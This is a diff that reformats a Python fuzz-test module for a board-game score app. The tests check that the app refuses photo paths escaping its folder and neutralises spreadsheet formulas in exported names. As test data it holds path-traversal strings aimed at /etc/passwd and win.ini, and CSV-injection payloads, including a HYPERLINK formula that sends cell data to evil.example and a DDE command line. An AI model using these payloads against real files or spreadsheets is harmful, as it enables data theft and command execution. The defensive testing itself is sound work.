@@ -68,17 +68,40 @@ def huge_png(path: Path, width: int, height: int, rows: int | None = None) -> Pa
 # opened: "in" (a regular file inside), "missing" (inside, not there: a
 # warning that says so), "out" (refused: a warning naming the entry).
 VALUES: list[tuple[str, str]] = [
-    ("ok.png", "in"), ("sub/ok.png", "in"), ("./sub//ok.png", "in"), ("sub/../ok.png", "in"),
-    ("huge.png", "in"), ("trunc.png", "in"), ("garbage.png", "in"), ("empty.png", "in"), ("text.svg", "in"),
-    ("nothing.png", "missing"), ("sub/nothing.png", "missing"),
-    ("../outside/secret.png", "out"), ("sub/../../outside/secret.png", "out"), ("..\\outside\\secret.png", "out"),
-    ("/etc/passwd", "out"), ("/dev/zero", "out"), ("C:\\Windows\\win.ini", "out"), ("\\\\server\\x.png", "out"),
-    ("", "out"), ("ok\x00.png", "out"), ("ok\x1b]0;x\x07.png", "out"), ("sub\n.png", "out"), ("x/" * 600, "out"),
+    ("ok.png", "in"),
+    ("sub/ok.png", "in"),
+    ("./sub//ok.png", "in"),
+    ("sub/../ok.png", "in"),
+    ("huge.png", "in"),
+    ("trunc.png", "in"),
+    ("garbage.png", "in"),
+    ("empty.png", "in"),
+    ("text.svg", "in"),
+    ("nothing.png", "missing"),
+    ("sub/nothing.png", "missing"),
+    ("../outside/secret.png", "out"),
+    ("sub/../../outside/secret.png", "out"),
+    ("..\\outside\\secret.png", "out"),
+    ("/etc/passwd", "out"),
+    ("/dev/zero", "out"),
+    ("C:\\Windows\\win.ini", "out"),
+    ("\\\\server\\x.png", "out"),
+    ("", "out"),
+    ("ok\x00.png", "out"),
+    ("ok\x1b]0;x\x07.png", "out"),
+    ("sub\n.png", "out"),
+    ("x/" * 600, "out"),
     ("dir.png", "out"),
 ]
 POSIX_VALUES: list[tuple[str, str]] = [
-    ("link_in.png", "in"), ("sub/link_up.png", "in"), ("link_out.png", "out"), ("link_etc.png", "out"),
-    ("link_zero.png", "out"), ("fifo.png", "out"), ("sub/up/outside/secret.png", "out"), ("loop.png", "out"),
+    ("link_in.png", "in"),
+    ("sub/link_up.png", "in"),
+    ("link_out.png", "out"),
+    ("link_etc.png", "out"),
+    ("link_zero.png", "out"),
+    ("fifo.png", "out"),
+    ("sub/up/outside/secret.png", "out"),
+    ("loop.png", "out"),
     ("dangling.png", "out"),
 ]
 
@@ -93,12 +116,13 @@ def _case_folder(root: Path) -> tuple[Path, Path]:
     small = huge_png(outside / "secret.png", 40, 30)
     shutil.copy(small, board / "ok.png")
     shutil.copy(small, board / "sub" / "ok.png")
-    huge_png(board / "huge.png", 100_000, 100_000, rows=3)              # claims 10^10 pixels
+    huge_png(board / "huge.png", 100_000, 100_000, rows=3)  # claims 10^10 pixels
     (board / "trunc.png").write_bytes(small.read_bytes()[:60])
     (board / "garbage.png").write_bytes(os.urandom(2000))
     (board / "empty.png").write_bytes(b"")
-    (board / "text.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><image href="/etc/passwd"/></svg>',
-                                    encoding="utf-8")
+    (board / "text.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg"><image href="/etc/passwd"/></svg>', encoding="utf-8"
+    )
     (board / "dir.png").mkdir()
     if POSIX:
         (board / "link_in.png").symlink_to("sub/ok.png")
@@ -125,7 +149,7 @@ def _photo_values(rng: random.Random, players: int) -> list[tuple[Any, str]]:
         elif r < 0.2:
             out.append(("../" * rng.randrange(1, 40) + rng.choice(("etc/passwd", "outside/secret.png", "")), "out"))
         elif r < 0.24:
-            out.append(("a" * rng.randrange(250, 1100) + ".png", "missing"))   # too long for the disk, or for us
+            out.append(("a" * rng.randrange(250, 1100) + ".png", "missing"))  # too long for the disk, or for us
         else:
             out.append(rng.choice(pool))
     return out
@@ -136,7 +160,7 @@ def _spy_loader() -> Iterator[list[str]]:
     """Every path the one photo loader reads (``photo._decode``), while inside."""
     try:
         from gardenapp.ui import photo
-    except ImportError:           # no Qt: nothing can load a photo
+    except ImportError:  # no Qt: nothing can load a photo
         yield []
         return
     seen: list[str] = []
@@ -145,6 +169,7 @@ def _spy_loader() -> Iterator[list[str]]:
     def spy(path: str):
         seen.append(os.path.realpath(path))
         return real(path)
+
     photo._decode = spy
     try:
         yield seen
@@ -194,7 +219,7 @@ def _helper(helper, path: Path, kinds: list[str], board: Path, rng: random.Rando
     """The score helper's Open, then every tab shown (each photo loaded) and
     sometimes a photo picked from outside the folder."""
     allowed = {os.path.realpath(picked)}
-    replaced = -1           # the tab whose photo the person picked: its refusal is gone with it
+    replaced = -1  # the tab whose photo the person picked: its refusal is gone with it
     try:
         with _spy_loader() as seen:
             outcome = harness.check_helper(helper, path)
@@ -217,7 +242,7 @@ def _helper(helper, path: Path, kinds: list[str], board: Path, rng: random.Rando
     if wrong:
         return Outcome("wrong", f"read a photo outside the folder: {wrong[0]}")
     texts = [helper.problems.item(k).text() for k in range(helper.problems.count())]
-    for i, kind in enumerate(kinds[:helper.tabs.count()]):
+    for i, kind in enumerate(kinds[: helper.tabs.count()]):
         if kind == "out" and i != replaced and not any(f"(players[{i}].photo) was not opened" in t for t in texts):
             return Outcome("wrong", f"no warning for players[{i}].photo")
     return Outcome("accepted")
@@ -225,6 +250,7 @@ def _helper(helper, path: Path, kinds: list[str], board: Path, rng: random.Rando
 
 def fuzz_photos(folder: Path, count: int, rng: random.Random, report: Report) -> None:
     from PySide6.QtWidgets import QApplication
+
     qt = QApplication.instance() is not None
     games = [g for g in harness.built_games() if harness.example_boards(g)]
     helpers: dict[str, Any] = {}
@@ -255,16 +281,42 @@ def fuzz_photos(folder: Path, count: int, rng: random.Random, report: Report) ->
 
 
 # -- exports --------------------------------------------------------------------------------------
-NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", " =1+1", "\t=x", "\r=x",
-         "=cmd|' /C calc'!A0", "Łucja", "João", "Zoë", "a=b", "Ana\tBo", "x\ny", '"quoted"', "x" * 100, "=" * 5,
-         "-", "+", "@", "'=already", "%0A=1", "ｰ1", "\u202e=1")
+NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    " =1+1",
+    "\t=x",
+    "\r=x",
+    "=cmd|' /C calc'!A0",
+    "Łucja",
+    "João",
+    "Zoë",
+    "a=b",
+    "Ana\tBo",
+    "x\ny",
+    '"quoted"',
+    "x" * 100,
+    "=" * 5,
+    "-",
+    "+",
+    "@",
+    "'=already",
+    "%0A=1",
+    "ｰ1",
+    "\u202e=1",
+)
 
 
 def _names(rng: random.Random, n: int) -> list[str]:
     names: list[str] = []
     while len(names) < n:
-        name = rng.choice(NAMES) if rng.random() < 0.8 else "".join(
-            rng.choice("=+-@ \t\rabcŁ01;,\"'") for _ in range(rng.randrange(1, 12)))
+        name = (
+            rng.choice(NAMES)
+            if rng.random() < 0.8
+            else "".join(rng.choice("=+-@ \t\rabcŁ01;,\"'") for _ in range(rng.randrange(1, 12)))
+        )
         if name not in names:
             names.append(name)
     return names
@@ -272,13 +324,16 @@ def _names(rng: random.Random, n: int) -> list[str]:
 
 def _sheet(rng: random.Random):
     from gardenapp.core.score import PlayerScore, RuleScore, ScoreSheet
+
     n = rng.randrange(1, 5)
     rules = rng.sample(["trees", "water", "fields", "mountains", "buildings"], rng.randrange(1, 5))
-    players = tuple(PlayerScore(name, tuple(RuleScore(r, rng.randrange(-30, 60)) for r in rules))
-                    for name in _names(rng, n))
+    players = tuple(
+        PlayerScore(name, tuple(RuleScore(r, rng.randrange(-30, 60)) for r in rules)) for name in _names(rng, n)
+    )
     best = max(p.total for p in players)
-    return ScoreSheet("harmonies", players, tuple(i for i, p in enumerate(players) if p.total == best),
-                      tie_is_draw=rng.random() < 0.2)
+    return ScoreSheet(
+        "harmonies", players, tuple(i for i, p in enumerate(players) if p.total == best), tie_is_draw=rng.random() < 0.2
+    )
 
 
 def _neutral(cell: str) -> bool:
@@ -366,9 +421,12 @@ def _export_in_helper(helper, kind: str, path: Path) -> tuple[bool, list[str]]:
     from unittest import mock
 
     from PySide6.QtWidgets import QFileDialog, QMessageBox
+
     shown: list[str] = []
-    with mock.patch.object(QFileDialog, "getSaveFileName", lambda *a, **kw: (str(path), "")), \
-            mock.patch.object(QMessageBox, "warning", lambda *a, **kw: shown.append(a[2])):
+    with (
+        mock.patch.object(QFileDialog, "getSaveFileName", lambda *a, **kw: (str(path), "")),
+        mock.patch.object(QMessageBox, "warning", lambda *a, **kw: shown.append(a[2])),
+    ):
         return helper.export(kind), shown
 
 
@@ -377,6 +435,7 @@ def fuzz_exports(folder: Path, count: int, rng: random.Random, report: Report) -
 
     from gardenapp.core import registry
     from gardenapp.ui.export import ScorePage, sheet_csv, sheet_tsv, write_csv, write_pdf, write_png
+
     qt = QApplication.instance() is not None
     helper = None
     for k in range(count):
@@ -397,8 +456,9 @@ def fuzz_exports(folder: Path, count: int, rng: random.Random, report: Report) -
                 if through_helper:
                     if helper is None:
                         helper = harness.score_helper(registry.get("harmonies"))
-                        helper.open_path(str(harness.ROOT / "gardenapp/games/harmonies/examples"
-                                             / "rulebook_full_board_side_a.json"))
+                        helper.open_path(
+                            str(harness.ROOT / "gardenapp/games/harmonies/examples" / "rulebook_full_board_side_a.json")
+                        )
                     page = helper.score_page()
                     ok, shown = _export_in_helper(helper, kind, path)
                 else:
@@ -411,8 +471,7 @@ def fuzz_exports(folder: Path, count: int, rng: random.Random, report: Report) -
             report.add("exports", what, Outcome("hang", str(exc)), f"{kind} to {what}")
             continue
         except BaseException as exc:  # noqa: BLE001
-            report.add("exports", what, Outcome("traceback", f"{type(exc).__name__}: {exc}"[:300]),
-                       f"{kind} to {what}")
+            report.add("exports", what, Outcome("traceback", f"{type(exc).__name__}: {exc}"[:300]), f"{kind} to {what}")
             continue
         elapsed = time.perf_counter() - start
         expected = ("\ufeff" + sheet_csv(page.sheet, page.game_name, page.when)).encode("utf-8", "replace")
